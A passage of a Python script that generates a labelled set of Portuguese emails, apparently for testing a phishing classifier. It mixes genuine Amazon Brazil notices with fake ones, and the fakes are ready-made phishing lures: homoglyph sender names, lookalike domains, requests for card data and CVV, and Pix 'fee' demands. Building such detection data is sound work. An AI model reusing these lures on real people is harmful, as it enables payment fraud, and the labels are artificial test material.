genuine(pt_spec("Pedido cancelado", "Pedido cancelado", "Olá, Pedro Almeida,",
                ["Seu pedido nº 702-4418290-1136657 foi cancelado.",
                 "Se o pagamento já tiver sido processado, o valor será reembolsado na forma de pagamento original. Você não precisa fazer nada."],
                order="702-4418290-1136657",
                items=[("Cafeteira Expresso Oster PrimaLatte II, 15 bar, inox", "Quantidade: 1 | R$ 899,00")],
                items_heading="Itens cancelados",
                buttons=[("Ver detalhes do pedido", "https://www.amazon.com.br/gp/your-account/order-details?orderID=702-4418290-1136657")],
                after=["Esperamos vê-lo novamente em breve."]),
        "order-update", ("Pedro Almeida", "pedro.almeida@yahoo.com.br"),
        "Pedido cancelado: 702-4418290-1136657", "2024-10-17 18:59:10 +0000", False, "alt",
        cte="8bit", region="us-east-1",
        kind="notice", lang="pt", cause="unknown", sr=False, mk="amazon.com.br",
        note="order cancelled, no reason given; multipart 8bit")

# ---- lookalikes (pt)
add(kind="lookalike", lang="pt", cause="payment_issue", sr=True, mk=None,
    note="callback 0800 number, gmail sender, duplicate payment story, malformed order no, crude",
    frm=("Amazon Brasil Atendimento", "atendimento.amazonbr24h@gmail.com"), to=("", "rafael.lima@bol.com.br"),
    subj="Pedido #702-44918-557 CANCELADO - pagamento duplicado", date="2024-06-10 09:51:44 +0000",
    pre=trace("mail-sor-f69.google.com", "209.85.220.69", ("", "rafael.lima@bol.com.br"), "2024-06-10 09:51:44 +0000",
              ("pass", "gmail.com", "pass", "gmail.com")),
    msgid=mid("", "gmail"), bstyle="gmail", cs="utf-8", cte="8bit",
    text="""Prezado(a) cliente,

Seu pedido #702-44918-557 (iPhone 15 Pro 256GB - Titânio Azul) no valor de R$ 8.799,00 foi CANCELADO porque identificamos um PAGAMENTO DUPLICADO no seu cartão de crédito.

Para solicitar o estorno dos valores ou caso você NÃO reconheça esta compra, ligue AGORA para a nossa central:

   0800 591 2231  ou  (11) 4003-7712   (atendimento 24 horas)

Atenção: caso não entre em contato em até 24 horas, o valor será lançado na sua próxima fatura.

Atenciosamente,
Central de Atendimento Amazon Brasil
""")

add(kind="lookalike", lang="pt", cause="fraud_prevention", sr=True, mk=None,
    note="account suspended + order cancelled, security code, look-alike domain amazon-conta.help, HTML only",
    frm=("Amazon", "suporte@amazon-conta.help"), to=("", "lucas.oliveira@terra.com.br"),
    subj="Sua conta foi suspensa e o pedido 701-9920183-4418827 cancelado", date="2024-03-26 00:36:12 +0000",
    pre=trace("out.amazon-conta.help", "179.43.176.201", ("", "lucas.oliveira@terra.com.br"), "2024-03-26 00:36:12 +0000",
              ("pass", "amazon-conta.help", "pass", "amazon-conta.help")),
    bstyle="other", cs="utf-8", cte="quoted-printable",
    html="""<html><body style="margin:0;padding:20px;background:#f2f2f2;font-family:Arial,sans-serif">
<table width="580" align="center" cellpadding="0" cellspacing="0" style="background:#fff">
<tr><td style="padding:16px 22px;border-bottom:2px solid #ff9900;font-size:22px;font-weight:bold">amazon<span style="color:#ff9900">.com.br</span></td></tr>
<tr><td style="padding:22px;font-size:14px;line-height:21px;color:#111">
<p>Olá,</p>
<p>Detectamos uma tentativa de acesso não autorizado à sua conta. Por segurança, sua conta foi <b>suspensa</b> e o pedido <b>701-9920183-4418827</b> foi <b>cancelado</b>.</p>
<p>Para reativar sua conta e liberar o pedido, informe o código de segurança abaixo na página de verificação:</p>
<p style="font-size:30px;font-weight:bold;text-align:center;letter-spacing:5px;background:#fff8e1;padding:12px">BR-55290</p>
<p style="text-align:center"><a href="https://amazon-conta.help/br/reativar" style="background:#ffd814;color:#111;padding:11px 30px;border-radius:18px;text-decoration:none">Reativar minha conta</a></p>
<p>O código é válido por 24 horas. Após esse prazo, a conta será encerrada definitivamente.</p>
<p>Equipe de Segurança Amazon</p></td></tr>
<tr><td style="font-size:11px;color:#888;padding:12px 22px">© 1996-2024, Amazon.com, Inc. ou suas afiliadas</td></tr></table></body></html>
""")

add(kind="lookalike", lang="pt", cause="payment_issue", sr=True, mk=None,
    note="reply with card data, order 'will be cancelled', look-alike domain + yahoo Reply-To, malformed order no, windows-1252 QP",
    frm=("Amazon.com.br", "pedidos@amazon-br-pedidos.com"), reply_to=("Financeiro Amazon", "financeiro.amazonbr@yahoo.com.br"),
    to=("", "pedro.almeida@yahoo.com.br"),
    subj="Aviso final: seu pedido será cancelado", date="2024-09-09 17:20:38 +0000",
    pre=trace("smtp.amazon-br-pedidos.com", "186.227.200.41", ("", "pedro.almeida@yahoo.com.br"), "2024-09-09 17:20:38 +0000",
              ("neutral", None, "none", "amazon-br-pedidos.com")),
    bstyle="outlook", cs="windows-1252", cte="quoted-printable",
    text="""Olá,

Não conseguimos confirmar o pagamento do seu pedido nº 701-2281-9930127.

Seu pedido será cancelado automaticamente em 24 horas caso os dados de pagamento não sejam atualizados.

Para manter o pedido, basta RESPONDER este e-mail informando:

 - Nome completo do titular
 - CPF
 - Número do cartão
 - Validade
 - Código de segurança (CVV)

Assim que recebermos as informações, seu pedido será liberado para envio.

Atenciosamente,
Departamento Financeiro – Amazon Brasil
""")

_ph_pt4 = "https://amazon.com.br.atualizacao-pedido.online/estorno/%s" % rid(10, HEX)
_s = pt_spec("Pedido cancelado", "Seu pedido foi cancelado", "Olá,",
             ["Informamos que o item abaixo do seu pedido nº 702-5561093-3307741 está indisponível no estoque e foi cancelado.",
              "O estorno de R$ 1.299,00 já foi gerado. Para recebê-lo, confirme a forma de reembolso em até 48 horas acessando seus pedidos:"],
             order="702-5561093-3307741",
             items=[("Apple Watch SE (2ª geração) GPS, caixa de alumínio meia-noite 44 mm", "Quantidade: 1 | R$ 1.299,00")],
             after=["Após esse prazo, o valor será convertido em crédito promocional sem possibilidade de estorno."])
_s["buttons"] = [("https://www.amazon.com.br/gp/css/order-history", _ph_pt4)]
add(kind="lookalike", lang="pt", cause="inventory_shortage", sr=True, mk=None,
    note="polished Amazon template copy, link text shows amazon.com.br, href to amazon.com.br.atualizacao-pedido.online; well-formed order no",
    frm=("Amazon.com.br", "order-update@amazon.com.br.atualizacao-pedido.online"), reply_to=("", "no-reply@amazon.com.br.atualizacao-pedido.online"),
    to=("Mariana Souza", "mariana.souza@uol.com.br"),
    subj="Seu pedido Amazon.com.br nº 702-5561093-3307741 foi cancelado", date="2024-12-05 12:14:26 +0000",
    pre=trace("mx2.atualizacao-pedido.online", "45.61.137.90", ("", "mariana.souza@uol.com.br"), "2024-12-05 12:14:26 +0000",
              ("pass", "atualizacao-pedido.online", "none", "amazon.com.br.atualizacao-pedido.online")),
    bstyle="amazon", cs="utf-8", cte="base64",
    text=amz_text(_s, showlink=lambda u: _ph_pt4), html=amz_html(_s, link=lambda u: _ph_pt4 + "?r=" + rid(6)))

add(kind="lookalike", lang="pt", cause="technical_issue", sr=True, mk=None,
    note="Cyrillic A in display name 'Amazon.com.br', claims processing failure, asks Pix 'reprocessing fee'",
    frm=("Аmazon.com.br", "no-reply@notificacao-cliente-br.com"), to=("", "anapaula.ferreira@gmail.com"),
    subj="Falha no processamento: pedido 701-7720415-9931846 cancelado", date="2024-08-14 22:08:57 +0000",
    pre=trace("notificacao-cliente-br.com", "138.124.183.12", ("", "anapaula.ferreira@gmail.com"), "2024-08-14 22:08:57 +0000",
              ("pass", "notificacao-cliente-br.com", "pass", "notificacao-cliente-br.com")),
    bstyle="other", cs="utf-8", cte="quoted-printable",
    text="""Olá, Ana Paula

Ocorreu uma falha técnica no processamento do seu pedido 701-7720415-9931846 e ele foi cancelado pelo sistema.

Para reprocessar o pedido e manter o preço promocional, é necessário pagar a taxa de reprocessamento de R$ 14,90 via Pix:

Chave Pix: reprocessamento.amazon@proton.me
Ou acesse: https://notificacao-cliente-br.com/pix/7017720415

Após a confirmação, o pedido será enviado em até 2 dias úteis.

Equipe Amazon.com.br
""",
    html="""<div style="font-family:Arial;font-size:14px;max-width:560px;color:#222">
<p style="font-size:20px;font-weight:bold">amazon<span style="color:#ff9900">.com.br</span></p>
<p>Olá, Ana Paula</p>
<p>Ocorreu uma <b>falha técnica</b> no processamento do seu pedido <b>701-7720415-9931846</b> e ele foi cancelado pelo sistema.</p>
<p>Para reprocessar o pedido e manter o preço promocional, é necessário pagar a taxa de reprocessamento de <b>R$ 14,90 via Pix</b>:</p>
<p>Chave Pix: <b>reprocessamento.amazon@proton.me</b><br><a href="https://notificacao-cliente-br.com/pix/7017720415">Pagar com Pix</a></p>
<p>Após a confirmação, o pedido será enviado em até 2 dias úteis.</p>
<p>Equipe Amazon.com.br</p></div>
""")

add(kind="lookalike", lang="pt", cause="customer_request", sr=True, mk=None,
    note="outlook.com sender, 'we received your cancellation request', callback + link to contest, order no present",
    frm=("Amazon Cancelamentos", "amazon.cancelamentos@outlook.com"), to=("", "ju.costa@hotmail.com"),
    subj="Recebemos sua solicitação de cancelamento", date="2024-02-03 15:44:02 +0000",
    pre=trace("BRAPR01-GRU-obe.outbound.protection.outlook.com", "40.92.42.77", ("", "ju.costa@hotmail.com"),
              "2024-02-03 15:44:02 +0000", ("pass", "outlook.com", "pass", "outlook.com")),
    msgid=mid("", "outlook"), bstyle="outlook", cs="utf-8", cte="8bit",
    text="""Olá,

Recebemos a sua solicitação de cancelamento do pedido 701-3319270-5582014 (Kit 4 Pneus Pirelli Aro 15).

Uma taxa de cancelamento de R$ 89,90 será cobrada no seu cartão cadastrado.

Se você não fez esta solicitação, conteste imediatamente pelo link abaixo ou pelo WhatsApp (11) 97541-2287:
https://tinyurl.com/amazon-contestar-br

Amazon.com.br
""")

_pdf = (b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
        b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Annots[<</Type/Annot/Subtype/Link/Rect[50 600 545 700]"
        b"/A<</S/URI/URI(https://docs-amazon-br.web.app/cancelamento)>>>>]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n")
add(kind="lookalike", lang="pt", cause="unknown", sr=False, mk=None,
    note="spoofed From order-update@amazon.com.br with spf/dmarc fail, no order number, no reason, PDF attachment with link",
    frm=("Amazon.com.br", "order-update@amazon.com.br"), to=("", "mariana.souza@uol.com.br"),
    subj="Seu pedido foi cancelado - comprovante em anexo", date="2024-01-22 05:03:18 +0000",
    pre=trace("srv01.hostnet-cloud.com.br", "177.54.150.21", ("", "mariana.souza@uol.com.br"), "2024-01-22 05:03:18 +0000",
              ("fail", None, "fail (p=QUARANTINE)", "amazon.com.br")),
    bstyle="thunder", cs="utf-8", cte="quoted-printable",
    att=[("Comprovante_Cancelamento.pdf", "application/pdf", _pdf)],
    text="""Olá,

Seu pedido foi cancelado. Segue em anexo o comprovante de cancelamento.

Abra o documento para solicitar o reembolso.

Amazon.com.br
""")

add(kind="lookalike", lang="pt", cause="unknown", sr=True, mk=None,
    note="Greek omicron in display name, amaz0n-br.com, package held by customs, 'will be cancelled' unless fee paid, malformed order no",
    frm=("Amazοn.com.br", "atendimento@amaz0n-br.com"), to=("Lucas", "lucas.oliveira@terra.com.br"),
    subj="Seu pedido será cancelado: pacote retido na fiscalização", date="2024-10-02 13:29:45 +0000",
    pre=trace("mail.amaz0n-br.com", "191.101.31.8", ("", "lucas.oliveira@terra.com.br"), "2024-10-02 13:29:45 +0000",
              ("pass", "amaz0n-br.com", "pass", "amaz0n-br.com")),
    bstyle="other", cs="utf-8", cte="base64",
    html="""<html><body style="font-family:Arial,sans-serif;font-size:14px;color:#111">
<div style="max-width:600px;margin:0 auto;border:1px solid #e7e7e7">
<div style="background:#232f3e;padding:12px 18px;color:#fff;font-size:20px;font-weight:bold">amazon<span style="color:#ff9900">.com.br</span></div>
<div style="padding:20px">
<p>Olá, Lucas</p>
<p>O pacote do seu pedido nº <b>702-118-4429017</b> foi retido na fiscalização aduaneira.</p>
<p>Seu pedido será cancelado e devolvido ao remetente caso a taxa de liberação de <b>R$ 37,45</b> não seja paga em até 3 dias.</p>
<p><a href="https://amaz0n-br.com/rastreio/liberar" style="background:#ffa41c;color:#111;padding:10px 24px;text-decoration:none;border-radius:4px">Pagar taxa e liberar pacote</a></p>
<p>Obrigado por comprar na Amazon.</p></div></div></body></html>
""")

# ---- non-notices (pt)
add(kind="non_notice", lang="pt", cause=None, sr=False, mk=None,
    note="Mercado Livre purchase cancelled; product is an Amazon Echo Dot",
    frm=("Mercado Livre", "compras@mercadolivre.com.br"), to=("Pedro Almeida", "pedro.almeida@yahoo.com.br"),
    subj="Sua compra foi cancelada", date="2024-07-19 10:40:31 +0000",
    pre=trace("mail-ml-34.mercadolivre.com.br", "216.33.197.34", ("", "pedro.almeida@yahoo.com.br"), "2024-07-19 10:40:31 +0000",
              ("pass", "mercadolivre.com.br", "pass", "mercadolivre.com.br")),
    bstyle="other", cs="utf-8", cte="quoted-printable",
    text="""Olá, Pedro!

Sua compra #2000008457731962 foi cancelada porque o vendedor ELETROSHOP_SP não tinha mais o produto em estoque.

Produto: Echo Dot 5ª Geração Amazon com Alexa - Smart Speaker - Cor Preta
Valor: R$ 379,05

O dinheiro será devolvido no mesmo meio de pagamento em até 2 dias úteis. Se você pagou com cartão, o estorno pode aparecer na fatura seguinte.

Encontre o mesmo produto com outros vendedores:
https://lista.mercadolivre.com.br/echo-dot-5-geracao-amazon

Mercado Livre
""",
    html="""<html><body style="font-family:Proxima Nova,Arial,sans-serif;background:#ededed;margin:0;padding:20px">
<table width="600" align="center" style="background:#fff;border-radius:6px"><tr><td style="background:#fff159;padding:14px;font-weight:bold;font-size:20px">mercado livre</td></tr>
<tr><td style="padding:22px;font-size:15px;color:#333">
<p>Olá, Pedro!</p>
<p>Sua compra <b>#2000008457731962</b> foi cancelada porque o vendedor ELETROSHOP_SP não tinha mais o produto em estoque.</p>
<table width="100%" style="border:1px solid #eee;padding:8px"><tr><td>Echo Dot 5ª Geração Amazon com Alexa - Smart Speaker - Cor Preta</td><td align="right">R$ 379,05</td></tr></table>
<p>O dinheiro será devolvido no mesmo meio de pagamento em até 2 dias úteis. Se você pagou com cartão, o estorno pode aparecer na fatura seguinte.</p>
<p><a href="https://lista.mercadolivre.com.br/echo-dot-5-geracao-amazon" style="color:#3483fa">Encontrar o mesmo produto com outros vendedores</a></p>
</td></tr></table></body></html>
""")

add(kind="non_notice", lang="pt", cause=None, sr=False, mk=None,
    note="friend says she cancelled her Amazon order; iso-8859-1 8bit; Apple Mail",
    frm=("Fernanda Ribeiro", "fe.ribeiro@uol.com.br"), to=("Juliana Costa", "ju.costa@hotmail.com"),
    subj="Re: air fryer", date="2024-04-22 19:12:08 -0300",
    pre=trace("smtp.uol.com.br", "200.147.36.15", ("", "ju.costa@hotmail.com"), "2024-04-22 19:12:08 -0300",
              ("pass", "uol.com.br", "pass", "uol.com.br")),
    extra=[("X-Mailer", "Apple Mail (2.3774.500.171.1.1)"), ("In-Reply-To", "<8D2F1C77-41B0-4B7E-9A61-3C2E0F1A@hotmail.com>")],
    bstyle="apple", cs="iso-8859-1", cte="8bit",
    text="""Ju, cancelei o meu pedido da Amazon também! Achei a mesma air fryer por R$ 289 no Magalu com frete grátis. A Amazon confirmou o cancelamento na hora e disse que o estorno cai na próxima fatura.

Se quiser eu te mando o link da oferta.

Beijos,
Fê

> Em 22 de abr. de 2024, às 17:40, Juliana Costa <ju.costa@hotmail.com> escreveu:
>
> Fê, acabei de cancelar a air fryer que tinha pedido na Amazon, vou esperar a Black Friday.
""")

add(kind="non_notice", lang="pt", cause=None, sr=False, mk=None,
    note="tech blog newsletter about the 'pedido cancelado' phishing scam, quotes fake subject",
    frm=("Segurança Digital Hoje", "newsletter@segurancadigitalhoje.com.br"), to=("", "anapaula.ferreira@gmail.com"),
    subj="Golpe do \"Seu pedido Amazon foi cancelado\" volta a circular; veja como se proteger", date="2024-06-27 08:00:00 +0000",
    pre=trace("o1.email.segurancadigitalhoje.com.br", "149.72.123.44", ("", "anapaula.ferreira@gmail.com"), "2024-06-27 08:00:00 +0000",
              ("pass", "segurancadigitalhoje.com.br", "pass", "segurancadigitalhoje.com.br")),
    extra=[("List-Unsubscribe", "<https://segurancadigitalhoje.com.br/descadastrar?id=5521>"), ("Precedence", "bulk")],
    bstyle="other", cs="utf-8", cte="base64",
    text="""SEGURANÇA DIGITAL HOJE - Newsletter

GOLPE DO "SEU PEDIDO AMAZON FOI CANCELADO" VOLTA A CIRCULAR

Leitores relataram nesta semana e-mails com o assunto "Seu pedido Amazon.com.br nº 701-XXXXXXX-XXXXXXX foi cancelado - ação necessária". A mensagem copia o layout da Amazon e pede que a vítima "confirme a forma de estorno" em um site falso ou ligue para uma central 0800.

Como identificar:
- remetente que não termina em @amazon.com.br;
- pedidos de pagamento de "taxa" via Pix;
- prazo curto para agir;
- links que, ao passar o mouse, mostram outro endereço.

Na dúvida, abra o app da Amazon e confira em "Seus pedidos". Se o pedido não aparecer cancelado lá, o e-mail é falso.

Leia também: o novo golpe do falso boleto dos Correios.

Para deixar de receber: https://segurancadigitalhoje.com.br/descadastrar?id=5521
""",
    html="""<html><body style="font-family:Arial,sans-serif;margin:0;background:#f5f5f5">
<table width="620" align="center" style="background:#fff"><tr><td style="background:#222;color:#fff;padding:16px;font-size:18px">SEGURANÇA DIGITAL HOJE</td></tr>
<tr><td style="padding:22px;font-size:15px;line-height:22px">
<h2>Golpe do "Seu pedido Amazon foi cancelado" volta a circular</h2>
<p>Leitores relataram nesta semana e-mails com o assunto <i>"Seu pedido Amazon.com.br nº 701-XXXXXXX-XXXXXXX foi cancelado - ação necessária"</i>. A mensagem copia o layout da Amazon e pede que a vítima "confirme a forma de estorno" em um site falso ou ligue para uma central 0800.</p>
<h3>Como identificar</h3>
<ul><li>remetente que não termina em @amazon.com.br;</li><li>pedidos de pagamento de "taxa" via Pix;</li><li>prazo curto para agir;</li><li>links que, ao passar o mouse, mostram outro endereço.</li></ul>
<p>Na dúvida, abra o app da Amazon e confira em "Seus pedidos". Se o pedido não aparecer cancelado lá, o e-mail é falso.</p>
<p style="color:#777">Leia também: o novo golpe do falso boleto dos Correios.</p></td></tr>
<tr><td style="font-size:11px;color:#999;padding:12px"><a href="https://segurancadigitalhoje.com.br/descadastrar?id=5521">Descadastrar</a></td></tr></table></body></html>
""")

genuine(pt_spec("Agendamento de entrega", "Seu agendamento de entrega foi cancelado", "Olá, Rafael Lima,",
                ["A transportadora não poderá realizar a entrega agendada para sexta-feira, 15 de março, no período da tarde (13h às 18h).",
                 "Seu pedido não foi cancelado. Escolha uma nova data de entrega; se você não reagendar até 20 de março, a transportadora entrará em contato pelo telefone cadastrado."],
                order="701-5518203-6640912",
                items=[("Geladeira Brastemp Frost Free Duplex 375 L, inox, BRM45JK", "Quantidade: 1 | Entrega agendada")],
                items_heading="Item afetado:",
                buttons=[("Reagendar entrega", "https://www.amazon.com.br/gp/your-account/ship-track?orderId=701-5518203-6640912")],
                signoff=["Obrigado,", "Amazon.com.br"]),
        "shipment-tracking", ("Rafael Lima", "rafael.lima@bol.com.br"),
        "Seu agendamento de entrega de 15/03 foi cancelado", "2024-03-14 21:02:37 +0000", True, "alt",
        region="us-east-1",
        kind="non_notice", lang="pt", cause=None, sr=False, mk="amazon.com.br",
        note="genuine Amazon: scheduled delivery appointment cancelled, order still active; auth pass")

genuine(dict(market="amazon.com.br", brand="Amazon.com.br", title="Amazon Music", heading="Sua assinatura do Amazon Music Unlimited foi cancelada",
             greeting="Olá, Lucas,",
             paras=["Confirmamos o cancelamento da sua assinatura do Amazon Music Unlimited (Plano Individual), solicitado em 3 de setembro de 2024.",
                    "Você poderá continuar ouvindo o Amazon Music Unlimited até 18 de setembro de 2024. Depois dessa data, não haverá novas cobranças de R$ 21,90 e sua conta voltará ao Amazon Music Prime."],
             order=None, items=[], buttons=[("Gerenciar assinatura", "https://www.amazon.com.br/music/settings")],
             after=["Mudou de ideia? Você pode reativar sua assinatura a qualquer momento."],
             signoff=["Obrigado,", "Equipe Amazon Music"], footer=FOOT_BR,
             nav=[("Amazon Music", "https://music.amazon.com.br/"), ("Sua conta", "https://www.amazon.com.br/gp/css/homepage.html")]),
        "digital-no-reply", ("Lucas Oliveira", "lucas.oliveira@terra.com.br"),
        "Cancelamento da sua assinatura do Amazon Music Unlimited", "2024-09-03 16:44:20 +0000", False, "html",
        cte="quoted-printable", region="us-east-1",
        kind="non_notice", lang="pt", cause=None, sr=False, mk="amazon.com.br",
        note="genuine Amazon: Music Unlimited subscription cancelled; HTML only QP")

genuine(pt_spec("Pagamento pendente", "Atualize sua forma de pagamento", "Olá, Ana Paula Ferreira,",
                ["Não foi possível processar o pagamento do seu pedido nº 702-6670312-9918824 com o cartão Visa final 2047.",
                 "Seu pedido ainda não foi cancelado. Para evitar o cancelamento, atualize a forma de pagamento até 9 de outubro de 2024. Caso não recebamos uma forma de pagamento válida até essa data, o pedido será cancelado.",
                 "Você também pode escolher pagar com Pix ou boleto ao revisar o pagamento em Seus pedidos."],
                order="702-6670312-9918824",
                items=[("Kindle 11ª Geração, 16 GB, tela antirreflexo de 6\", preto", "Quantidade: 1 | R$ 499,00")],
                items_heading="Item aguardando pagamento",
                buttons=[("Revisar pagamento", "https://www.amazon.com.br/gp/css/order-history")]),
        "payments-messages", ("Ana Paula Ferreira", "anapaula.ferreira@gmail.com"),
        "Ação necessária: atualize o pagamento do seu pedido Amazon.com.br 702-6670312-9918824",
        "2024-10-04 10:08:52 +0000", True, "alt", cte="base64", region="us-east-1",
        kind="non_notice", lang="pt", cause=None, sr=False, mk="amazon.com.br",
        note="genuine payment reminder BEFORE cancellation ('será cancelado' if no update); auth pass")


# ================================================================= write
LABEL_KEYS = ("kind", "lang", "cause", "sr", "mk", "note")


def main():
    os.makedirs(OUT, exist_ok=True)
    for f in os.listdir(OUT):
        if f.endswith(".eml"):
            os.remove(os.path.join(OUT, f))
    order = list(range(len(MAILS)))
    random.Random(SEED + 1).shuffle(order)
    labels = []
    for n, i in enumerate(order, 1):
        m = MAILS[i]
        name = "%s%03d.eml" % (PREFIX, n)
        with open(os.path.join(OUT, name), "wb") as fh:
            fh.write(build(m))
        labels.append({"file": name, "kind": m["kind"], "language": m["lang"], "cause": m["cause"],
                       "states_reason": m["sr"], "marketplace": m["mk"], "note": m["note"]})
    with open(os.path.join(HERE, "labels.json"), "w", encoding="utf-8") as fh:
        json.dump(labels, fh, ensure_ascii=False, indent=1)
    print("wrote %d mails to %s" % (len(labels), OUT))


if __name__ == "__main__":
    main()
